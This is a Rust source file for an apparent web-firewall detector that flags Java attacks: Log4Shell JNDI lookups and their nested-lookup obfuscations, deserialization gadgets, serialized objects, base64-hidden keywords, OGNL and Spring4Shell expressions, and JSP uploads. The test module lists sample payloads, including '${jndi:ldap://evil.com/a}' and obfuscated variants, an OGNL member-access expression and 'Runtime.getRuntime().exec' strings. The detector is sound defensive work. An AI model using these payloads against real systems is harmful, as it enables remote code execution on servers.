//! Java attacks: JNDI lookups (Log4Shell) with their nested-lookup evasions, the Java class
//! names that deserialization gadgets, OGNL and Spring expression payloads name, serialized
//! Java objects (raw or base64), the same keywords hidden in base64 at any alignment, OGNL
//! (Struts) expressions, and JSP uploads.
//!
//! How: one Aho-Corasick pass over the lowercased value finds every trigger (`${`, `jndi:`,
//! `java.`, gadget names, OGNL markers…); each trigger is then confirmed by a small parser:
//! Log4j lookups are evaluated the way Log4j would (`${lower:j}`, `${::-j}`, `${env:X:-j}`
//! become `j`) and the result checked for a `jndi:` lookup; a `java.` chain is read as a dotted
//! class name. Base64 keywords are found case-sensitively with a second automaton, built once
//! from the keywords at the three byte alignments, only on values with no space.

use crate::detector::{Detector, Features, Input, Sink, Triggers, WordSet};
use crate::needle;
use crate::rule::{Class, Rule, Severity};
use std::sync::LazyLock;

/// A Log4j `${jndi:…}` lookup, found after evaluating nested lookups, or a `jndi:` URL.
pub(crate) static JNDI: Rule = Rule {
    id: "java.jndi",
    class: Class::Java,
    paranoia: 1,
    severity: Severity::Critical,
    description: "JNDI lookup (Log4Shell), including nested-lookup obfuscation",
};

/// Log4j lookups nested inside a lookup, or lookups with an empty name (`${::-x}`): the
/// obfuscation Log4Shell payloads use, even when the result is not a JNDI lookup.
pub(crate) static LOOKUP: Rule = Rule {
    id: "java.log4j-lookup",
    class: Class::Java,
    paranoia: 1,
    severity: Severity::Critical,
    description: "obfuscated Log4j lookup (nested or empty-named lookups)",
};

/// A Java class name that code-execution and deserialization payloads use
/// (`java.lang.Runtime`, `java.io.*`, `javax.script.*`, xwork2, commons-collections…).
pub(crate) static CLASS: Rule = Rule {
    id: "java.class",
    class: Class::Java,
    paranoia: 1,
    severity: Severity::Critical,
    description: "Java class name used in code execution or deserialization payloads",
};

/// A fully qualified name in other `java.*` packages (`java.util.…`, `java.net.…`).
pub(crate) static CLASS_OTHER: Rule = Rule {
    id: "java.class-name",
    class: Class::Java,
    paranoia: 2,
    severity: Severity::Warning,
    description: "fully qualified Java class name",
};

/// A deserialization gadget class (commons-collections transformers, TemplatesImpl…).
pub(crate) static GADGET: Rule = Rule {
    id: "java.gadget",
    class: Class::Java,
    paranoia: 1,
    severity: Severity::Critical,
    description: "Java deserialization gadget class",
};

/// A serialized Java object: the stream magic `AC ED 00 05`, raw, as hex, or base64 (`rO0AB`).
pub(crate) static SERIALIZED: Rule = Rule {
    id: "java.serialized",
    class: Class::Java,
    paranoia: 1,
    severity: Severity::Critical,
    description: "serialized Java object (stream magic, raw, hex or base64)",
};

/// A Java attack keyword (`runtime`, `processbuilder`, gadget names) hidden in base64.
pub(crate) static BASE64: Rule = Rule {
    id: "java.base64-keyword",
    class: Class::Java,
    paranoia: 1,
    severity: Severity::Critical,
    description: "Java attack keyword encoded in base64",
};

/// An OGNL expression reaching into the evaluation context (Struts2 RCE).
pub(crate) static OGNL: Rule = Rule {
    id: "java.ognl",
    class: Class::Java,
    paranoia: 1,
    severity: Severity::Critical,
    description: "OGNL expression reaching into the member access or context (Struts2)",
};

/// Spring class-loader manipulation (`class.module.classLoader…`, Spring4Shell) and
/// `getRuntime` calls.
pub(crate) static REFLECTION: Rule = Rule {
    id: "java.reflection",
    class: Class::Java,
    paranoia: 1,
    severity: Severity::Critical,
    description: "class-loader or runtime access through bean properties or reflection",
};

/// A JSP file uploaded (file name or upload header ending in `.jsp`/`.jspx`).
pub(crate) static JSP_UPLOAD: Rule = Rule {
    id: "java.jsp-upload",
    class: Class::Java,
    paranoia: 1,
    severity: Severity::Critical,
    description: "JSP file upload",
};

/// The java detector.
pub(crate) static DETECTOR: Detector = Detector {
    class: Class::Java,
    rules: &[
        &JNDI,
        &LOOKUP,
        &CLASS,
        &CLASS_OTHER,
        &GADGET,
        &SERIALIZED,
        &BASE64,
        &OGNL,
        &REFLECTION,
        &JSP_UPLOAD,
    ],
    alnum: true,
    scan,
};

/// What a trigger of [`TRIGGERS`] asks for.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Trigger {
    Lookup,
    JndiUrl,
    Java,
    Javax,
    Package,
    ClassLoader,
    GetRuntime,
    Exec,
    Gadget,
    WeakGadget,
    Ognl,
    SerializedHex,
}

/// Triggers, lowercase, with what each asks for.
const TRIGGERS: &[(&str, Trigger)] = &[
    ("${", Trigger::Lookup),
    ("jndi:", Trigger::JndiUrl),
    ("java.", Trigger::Java),
    ("javax.", Trigger::Javax),
    ("org.apache.commons", Trigger::Package),
    ("com.sun.org.apache", Trigger::Package),
    ("com.opensymphony.xwork", Trigger::Package),
    ("org.omg.corba", Trigger::Package),
    ("com.bea.core.repackaged", Trigger::Package),
    ("org.springframework.context.support", Trigger::Package),
    ("org.codehaus.groovy.runtime", Trigger::Package),
    ("sun.misc.unsafe", Trigger::Package),
    ("classloader", Trigger::ClassLoader),
    ("getruntime", Trigger::GetRuntime),
    ("runtime", Trigger::Exec),
    ("processbuilder", Trigger::Exec),
    ("invokertransformer", Trigger::Gadget),
    ("instantiatetransformer", Trigger::Gadget),
    ("chainedtransformer", Trigger::Gadget),
    ("constanttransformer", Trigger::Gadget),
    ("clonetransformer", Trigger::Gadget),
    ("instantiatefactory", Trigger::Gadget),
    ("prototypeclonefactory", Trigger::Gadget),
    ("prototypeserializationfactory", Trigger::Gadget),
    ("templatesimpl", Trigger::Gadget),
    ("annotationinvocationhandler", Trigger::Gadget),
    ("jdbcrowsetimpl", Trigger::Gadget),
    ("forclosure", Trigger::WeakGadget),
    ("whileclosure", Trigger::WeakGadget),
    ("@ognl", Trigger::Ognl),
    ("#_memberaccess", Trigger::Ognl),
    ("ognlcontext", Trigger::Ognl),
    ("%{(#", Trigger::Ognl),
    ("${(#", Trigger::Ognl),
    ("#context[", Trigger::Ognl),
    ("aced0005", Trigger::SerializedHex),
];

/// The bytes that every trigger but a word holds: `$ : . ( # @ %`.
const STRUCTURE: Features = Features::DOLLAR
    .union(Features::COLON)
    .union(Features::DOT)
    .union(Features::PAREN)
    .union(Features::SIGIL)
    .union(Features::ESCAPE);

/// The shortest trigger without a [`STRUCTURE`] byte that reports on its own (`aced0005`);
/// `runtime` reports only along with a longer weak gadget.
const WORD_MIN: usize = 8;

/// The triggers, for the [`super::TRIGGER_WORDS`].
pub(super) fn words() -> Vec<&'static [u8]> {
    TRIGGERS.iter().map(|(p, _)| p.as_bytes()).collect()
}

/// Keywords whose base64 forms are looked for, in the spellings payloads use.
const BASE64_KEYWORDS: &[&str] = &[
    "runtime",
    "Runtime",
    "processbuilder",
    "ProcessBuilder",
    "clonetransformer",
    "CloneTransformer",
    "forclosure",
    "ForClosure",
    "instantiatefactory",
    "InstantiateFactory",
    "instantiatetransformer",
    "InstantiateTransformer",
    "invokertransformer",
    "InvokerTransformer",
    "prototypeclonefactory",
    "PrototypeCloneFactory",
    "prototypeserializationfactory",
    "PrototypeSerializationFactory",
    "whileclosure",
    "WhileClosure",
    "chainedtransformer",
    "ChainedTransformer",
    "java.lang.",
    "getRuntime",
    "TemplatesImpl",
    "${jndi:",
];

/// The base64 text that encodes `keyword` when it starts `offset` bytes (0–2) into a
/// three-byte group: only the characters that depend on the keyword alone.
fn base64_fragment(keyword: &[u8], offset: usize) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut bytes = vec![0u8; offset];
    bytes.extend_from_slice(keyword);
    let bits = bytes.len() * 8;
    let first = (offset * 8).div_ceil(6);
    let last = bits / 6; // exclusive: the characters fully inside the known bits
    let mut out = String::new();
    for c in first..last {
        let bit = c * 6;
        let mut v = 0u32;
        for k in 0..6 {
            let b = bit + k;
            let byte = bytes.get(b / 8).copied().unwrap_or(0);
            v = v << 1 | u32::from((byte >> (7 - b % 8)) & 1);
        }
        out.push(char::from(ALPHABET[v as usize]));
    }
    out
}

/// The marks of a serialized Java object: the stream magic `AC ED 00 05` raw, and its base64
/// forms at the three alignments, `rO0AB` (aligned), `[Kaq6]ztAA[U-X]` (one byte before
/// it), `s7QAF` (two bytes before it), checked where they sit in their token.
const SERIALIZED_MARKS: [&[u8]; 4] = [b"\xac\xed\x00\x05", b"rO0AB", b"s7QAF", b"ztAA"];

/// The case-sensitive marks: the serialized-object marks (patterns 0–3), then the base64
/// fragments of [`BASE64_KEYWORDS`].
static MARK_PATTERNS: LazyLock<Vec<Vec<u8>>> = LazyLock::new(|| {
    let mut patterns: Vec<Vec<u8>> = SERIALIZED_MARKS.iter().map(|m| m.to_vec()).collect();
    for keyword in BASE64_KEYWORDS {
        for offset in 0..3 {
            patterns.push(base64_fragment(keyword.as_bytes(), offset).into_bytes());
        }
    }
    patterns
});

/// The marks in one automaton.
static MARKS: LazyLock<Triggers> = LazyLock::new(|| Triggers::new(MARK_PATTERNS.iter()));

/// The marks lowercased, for the [`super::TRIGGER_WORDS`]: a text holds a mark only if its
/// lowercase form holds the mark lowercased, so that the case-sensitive walk is for the
/// rare text where the shared walk found one.
static LOWERCASE_MARKS: LazyLock<Vec<Vec<u8>>> = LazyLock::new(|| {
    MARK_PATTERNS
        .iter()
        .map(|m| m.to_ascii_lowercase())
        .collect()
});

/// See [`LOWERCASE_MARKS`].
pub(super) fn mark_words() -> Vec<&'static [u8]> {
    LOWERCASE_MARKS.iter().map(Vec::as_slice).collect()
}

/// The shortest value that may hold a base64 keyword.
const BASE64_MIN: usize = 9;

fn scan(input: &Input<'_>, sink: &mut Sink<'_>) {
    let text = input.text;
    let lower = input.lower;
    if input.is_upload_name() && is_jsp(lower) {
        sink.report(&JSP_UPLOAD, 0..text.len());
    }
    marks(input, sink);
    // A trigger without one of these bytes is a word of at least `WORD_MIN` letters.
    if !input.features.any(STRUCTURE) && lower.len() < WORD_MIN {
        return;
    }
    // The trigger automaton (a DFA) is the gate: one pass, no match on ordinary text.
    let mut exec = None;
    let mut weak = None;
    let mut lookup_end = 0;
    for m in input.words(WordSet::Java) {
        let span = m.start()..m.end();
        match TRIGGERS[m.pattern().as_usize()].1 {
            Trigger::Lookup => {
                // A `${` inside an earlier lookup was evaluated with it.
                if m.start() >= lookup_end {
                    lookup_end = lookups(lower, m.start(), sink);
                }
            }
            Trigger::JndiUrl => {
                if jndi_url(&lower[m.end()..]) {
                    sink.report(&JNDI, span);
                }
            }
            Trigger::Java => java_chain(text, lower, m.start(), 1, sink),
            Trigger::Javax => java_chain(text, lower, m.start(), 2, sink),
            Trigger::Package => sink.report(&CLASS, span),
            Trigger::ClassLoader => {
                let before = &lower[..m.start()];
                if before.ends_with(b".")
                    || before.ends_with(b"get")
                    || before.ends_with(b"url")
                    || before.ends_with(b"class")
                {
                    sink.report(&REFLECTION, span);
                }
            }
            Trigger::GetRuntime => {
                if lower
                    .get(m.end()..)
                    .is_some_and(|r| r.trim_ascii_start().starts_with(b"(") || r.starts_with(b"@"))
                    || lower[..m.start()].ends_with(b"@")
                    || lower[..m.start()].ends_with(b".")
                {
                    sink.report(&REFLECTION, span);
                }
            }
            Trigger::Exec => exec = Some(span),
            Trigger::Gadget => sink.report(&GADGET, span),
            Trigger::WeakGadget => weak = Some(span),
            Trigger::Ognl => sink.report(&OGNL, span),
            Trigger::SerializedHex => sink.report(&SERIALIZED, span),
        }
    }
    if let (Some(_), Some(span)) = (exec, weak) {
        sink.report(&GADGET, span);
    }
}

/// Whether a file name ends in `.jsp` or `.jspx`, trailing dots and spaces ignored (Windows
/// drops them).
fn is_jsp(lower: &[u8]) -> bool {
    let mut end = lower.len();
    while end > 0 && matches!(lower[end - 1], b'.' | b' ' | 0) {
        end -= 1;
    }
    let name = &lower[..end];
    name.ends_with(b".jsp") || name.ends_with(b".jspx")
}

/// Reports the first serialized-object mark and, in a value without spaces, the first
/// base64-encoded keyword.
fn marks(input: &Input<'_>, sink: &mut Sink<'_>) {
    let text = input.text;
    if text.len() < SERIALIZED_MARKS[3].len() {
        return;
    }
    let base64 = text.len() >= BASE64_MIN
        && (!input.features.any(Features::SPACE) || needle::byte(text, b' ').is_none());
    // Every serialized mark holds a byte above ASCII or an `A`.
    if !base64 && !input.features.any(Features::HIGH) && needle::byte(text, b'A').is_none() {
        return;
    }
    if input.words(WordSet::JavaMark).next().is_none() {
        return;
    }
    let (mut serialized, mut keyword) = (false, !base64);
    for m in MARKS.find_all(text) {
        let at = m.start();
        match m.pattern().as_usize() {
            0..4 if serialized => {}
            0..4 => {
                serialized = match m.pattern().as_usize() {
                    0 => true,
                    1 => token_offset(text, at) == 0,
                    2 => token_offset(text, at) <= 4,
                    _ => {
                        at >= 1
                            && matches!(text[at - 1], b'K' | b'a' | b'q' | b'6')
                            && matches!(text.get(at + 4), Some(b'U'..=b'X'))
                            && token_offset(text, at - 1) <= 4
                    }
                };
                if serialized {
                    sink.report(&SERIALIZED, m.range());
                }
            }
            _ if keyword => {}
            _ => {
                keyword = true;
                sink.report(&BASE64, m.range());
            }
        }
        if serialized && keyword {
            return;
        }
    }
}

/// How many base64 characters precede `at` in its token (at most 5 are counted).
fn token_offset(text: &[u8], at: usize) -> usize {
    text[..at]
        .iter()
        .rev()
        .take(5)
        .take_while(|&&b| is_base64_byte(b))
        .count()
}

fn is_base64_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'-' | b'_')
}

/// Whether what follows `jndi:` is a naming-service URL scheme.
fn jndi_url(rest: &[u8]) -> bool {
    const SCHEMES: &[&[u8]] = &[
        b"ldap:",
        b"ldaps:",
        b"rmi:",
        b"dns:",
        b"iiop:",
        b"iiopname:",
        b"corba:",
        b"corbaname:",
        b"nds:",
        b"nis:",
        b"http:",
        b"https:",
    ];
    let rest = rest.trim_ascii_start();
    SCHEMES.iter().any(|s| rest.starts_with(s))
}

/// The deepest lookup nesting evaluated; deeper `${` are kept as text.
const MAX_DEPTH: usize = 12;

/// Evaluates the Log4j lookup starting at `start` (`${`), reports a JNDI lookup or an
/// obfuscated one, and returns where the lookup ends. The caller skips the `${` inside it
/// (they were evaluated with it), so the work is linear in the value's length times the
/// nesting depth.
fn lookups(lower: &[u8], start: usize, sink: &mut Sink<'_>) -> usize {
    let mut out = Vec::new();
    let mut state = Eval::default();
    let end = eval(lower, start, 0, &mut out, &mut state);
    let span = start..end;
    if state.jndi || needle::find(&out, b"${jndi:").is_some() {
        sink.report(&JNDI, span);
    } else if state.obfuscated {
        sink.report(&LOOKUP, span);
    }
    end
}

#[derive(Default)]
struct Eval {
    /// A lookup whose evaluated key starts with `jndi:`.
    jndi: bool,
    /// A nested lookup, or one with an empty prefix and key.
    obfuscated: bool,
}

/// Evaluates the lookup at `s[i..]` (which starts with `${`), appends its value to `out`,
/// and returns the index after it.
fn eval(s: &[u8], i: usize, depth: usize, out: &mut Vec<u8>, state: &mut Eval) -> usize {
    let mark = out.len();
    let mut j = i + 2;
    loop {
        match s.get(j) {
            None => {
                // Unclosed: the text stays as it was.
                let content = out.split_off(mark);
                out.extend_from_slice(b"${");
                out.extend_from_slice(&content);
                return j;
            }
            Some(b'}') => {
                j += 1;
                break;
            }
            Some(b'$') if s.get(j + 1) == Some(&b'{') && depth < MAX_DEPTH => {
                state.obfuscated = true;
                j = eval(s, j, depth + 1, out, state);
            }
            Some(&b) => {
                out.push(b);
                j += 1;
            }
        }
    }
    let content = out.split_off(mark);
    let content = content.as_slice();
    if content.trim_ascii_start().starts_with(b"jndi:") {
        state.jndi = true;
    }
    if let Some(k) = needle::find(content, b":-") {
        if content[..k].iter().all(|&b| b == b':') {
            state.obfuscated = true;
        }
        out.extend_from_slice(&content[k + 2..]);
    } else if let Some(rest) = content
        .strip_prefix(b"lower:")
        .or_else(|| content.strip_prefix(b"upper:"))
    {
        out.extend_from_slice(rest);
    } else if let Some(rest) = content.strip_prefix(b"date:") {
        out.extend(rest.iter().filter(|&&b| b != b'\''));
    } else {
        out.extend_from_slice(b"${");
        out.extend_from_slice(content);
        out.push(b'}');
    }
    j
}

/// Reads the dotted name starting at `lower[start..]` (`java.…`, `javax.…`) and reports it
/// when it names a class that payloads use. `skip` is how many segments name the root
/// package (`java` 1, `javax` 2 counting its first subpackage).
fn java_chain(text: &[u8], lower: &[u8], start: usize, skip: usize, sink: &mut Sink<'_>) {
    if start > 0 && is_ident(lower[start - 1]) {
        return;
    }
    let mut segments: [&[u8]; 6] = [&[]; 6];
    let mut original: [&[u8]; 6] = [&[]; 6];
    let mut count = 0;
    let mut i = start;
    let mut end = start;
    while count < segments.len() {
        let seg_start = i;
        while i < lower.len() && is_ident(lower[i]) {
            i += 1;
        }
        if i == seg_start {
            break;
        }
        segments[count] = &lower[seg_start..i];
        original[count] = &text[seg_start..i];
        count += 1;
        end = i;
        if lower.get(i) == Some(&b'.') {
            i += 1;
        } else {
            break;
        }
    }
    let span = start..end;
    if stack_frame(&lower[end..]) {
        return;
    }
    let named = &segments[1..count.max(1)];
    // `java.<anything>.runtime`, `java.processbuilder`: the classes that run commands.
    if named
        .iter()
        .any(|s| *s == b"runtime" || *s == b"processbuilder")
    {
        sink.report(&CLASS, span);
        return;
    }
    if skip == 2 {
        // javax.script.ScriptEngineManager, javax.naming.InitialContext, javax.management…
        if count >= 3 && matches!(segments[1], b"script" | b"naming" | b"management") {
            sink.report(&CLASS, span);
        }
        return;
    }
    if count < 3 {
        return;
    }
    let class = segments[2];
    if class.ends_with(b"exception") || class.ends_with(b"error") {
        return;
    }
    match segments[1] {
        b"lang" | b"io" => sink.report(&CLASS, span),
        b"beans" | b"rmi" if original[2].first().is_some_and(u8::is_ascii_uppercase) => {
            sink.report(&CLASS, span)
        }
        b"net" | b"nio" | b"util" | b"security" | b"sql" | b"beans" | b"rmi" => {
            sink.report(&CLASS_OTHER, span)
        }
        _ => {}
    }
}

/// Whether a method's name is followed by where a stack trace says it ran (`(Runtime.java:347)`,
/// `(Native Method)`, `(Unknown Source)`): a frame of an error report, which names the class
/// and calls nothing.
fn stack_frame(after: &[u8]) -> bool {
    let Some(inside) = after.strip_prefix(b"(") else {
        return false;
    };
    // What follows the frame's `)`.
    let after = if let Some(rest) = [&b"native method)"[..], b"unknown source)"]
        .iter()
        .find_map(|place| inside.strip_prefix(*place))
    {
        rest
    } else {
        let file = inside.iter().take_while(|&&b| is_ident(b)).count();
        let Some(rest) = inside[file..].strip_prefix(b".java:") else {
            return false;
        };
        let line = rest.iter().take_while(|b| b.is_ascii_digit()).count();
        match rest[line..].strip_prefix(b")") {
            Some(after) if file > 0 && line > 0 => after,
            _ => return false,
        }
    };
    // The frame ends its line or the value: nothing is called on it.
    after.first().is_none_or(u8::is_ascii_whitespace)
}

fn is_ident(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_' || b == b'$'
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detector::matches;
    use crate::location::Part;

    fn ids(text: &str) -> Vec<&'static str> {
        matches(&DETECTOR, Part::Query, "q", text, 1)
    }

    #[test]
    fn jndi_lookups_and_their_evasions() {
        for attack in [
            "${jndi:ldap://evil.com/a}",
            "x ${jndi:rmi://evil.com/a} y",
            "${${lower:j}ndi:ldap://evil.com/a}",
            "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.com/a}",
            "${${env:FOO:-j}ndi:ldap://evil.com/a}",
            "$${env:x:-${env:y:-$}{jndi:ldap://evil.com/a}}}",
            "${${upper:j}${date:'n'}di:dns://x}",
            "jndi:ldap://evil.com/a",
        ] {
            assert!(ids(attack).contains(&"java.jndi"), "{attack}");
        }
        assert_eq!(ids("${${::-x}}"), ["java.log4j-lookup"]);
    }

    #[test]
    fn env_maps_and_shell_defaults_pass() {
        for benign in [
            "${DATABASE_URL}",
            "${PORT:-8080}",
            "{\"a\":\"${A}\",\"b\":\"${B}\"}",
            "cost ${price} and #{count}",
            "${unclosed",
        ] {
            assert!(ids(benign).is_empty(), "{benign}");
        }
    }

    #[test]
    fn class_names() {
        for attack in [
            "java.lang.Runtime",
            "java.io.FileOutputStream",
            "java.lang.reflect",
            "java.evil.runtime",
            "java.ProcessBuilder",
            "javax.script.ScriptEngineManager",
            "com.opensymphony.xwork2",
            "org.apache.commons",
            "T(java.lang.Runtime).getRuntime().exec('id')",
        ] {
            assert!(ids(attack).contains(&"java.class"), "{attack}");
        }
        for benign in [
            "java.lang.NullPointerException at line 3",
            "I love the Java runtime",
            "javascript.info is a site",
            "download java.com",
            "myjava.lang.String",
            // Frames of a stack trace.
            "at java.base/java.lang.reflect.Method.invoke(Method.java:568)",
            "at java.lang.Runtime.exec(Runtime.java:347)",
            "at java.lang.Thread.run(Unknown Source)",
            "\tat java.lang.reflect.Method.invoke0(Native Method)",
        ] {
            assert!(ids(benign).is_empty(), "{benign}");
        }
        for attack in [
            "java.lang.Runtime.exec(Runtime.java)",
            "java.lang.Runtime.getRuntime().exec('id')",
            "java.lang.Runtime.exec(x.java:1).exec('id')",
        ] {
            assert!(ids(attack).contains(&"java.class"), "{attack}");
        }
    }

    #[test]
    fn gadgets_ognl_reflection() {
        assert!(ids("ProcessBuilder.evil.clonetransformer").contains(&"java.gadget"));
        assert!(ids("runtime.forclosure").contains(&"java.gadget"));
        assert!(ids("the forclosure of my house").is_empty());
        assert!(ids("%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}").contains(&"java.ognl"));
        assert_eq!(
            ids("class.module.classLoader.resources.context"),
            ["java.reflection"]
        );
        assert_eq!(ids("Runtime.getRuntime().exec('id')"), ["java.reflection"]);
    }

    #[test]
    fn serialized_objects_and_base64() {
        assert_eq!(ids("rO0ABQ"), ["java.serialized"]);
        assert_eq!(ids("xrO0ABQ"), Vec::<&str>::new());
        assert_eq!(ids("KztAAU"), ["java.serialized"]);
        assert_eq!(ids("Cs7QAF"), ["java.serialized"]);
        assert!(ids("abcdefghKztAAU").is_empty());
        assert_eq!(ids("ACED0005737200"), ["java.serialized"]);
        for attack in [
            "cnVudGltZQ",
            "HJ1bnRpbWU",
            "BydW50aW1l",
            "cHJvY2Vzc2J1aWxkZXI",
        ] {
            assert_eq!(ids(attack), ["java.base64-keyword"], "{attack}");
        }
        assert!(ids("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0").is_empty());
        assert_eq!(base64_fragment(b"runtime", 0), "cnVudGltZ");
    }

    #[test]
    fn cheap_gates_keep_every_trigger() {
        // Each trigger without a structure byte is a word the length gate lets through.
        for (pattern, trigger) in TRIGGERS {
            let mut lower = Vec::new();
            let features = Features::lowercase(pattern.as_bytes(), &mut lower);
            assert!(
                features.any(STRUCTURE)
                    || pattern.len() >= WORD_MIN
                    || matches!(trigger, Trigger::Exec),
                "{pattern}"
            );
        }
        // Short words, serialized marks in text with spaces.
        assert_eq!(ids("aced0005"), ["java.serialized"]);
        assert_eq!(ids("x rO0ABQ"), ["java.serialized"]);
        assert_eq!(ids("rO0ABQ y"), ["java.serialized"]);
        assert_eq!(ids("cnVudGltZQ\t"), ["java.base64-keyword"]);
        assert!(ids("runtime").is_empty());
    }

    #[test]
    fn jsp_uploads() {
        let d = &DETECTOR;
        assert_eq!(
            matches(d, Part::FileName, "f", "shell.jsp..", 1),
            ["java.jsp-upload"]
        );
        assert_eq!(
            matches(d, Part::Header, "x-filename", "a.JSPX", 1),
            ["java.jsp-upload"]
        );
        assert!(matches(d, Part::Query, "q", "a.jsp", 1).is_empty());
        assert!(matches(d, Part::FileName, "f", "a.jspa", 1).is_empty());
    }
}
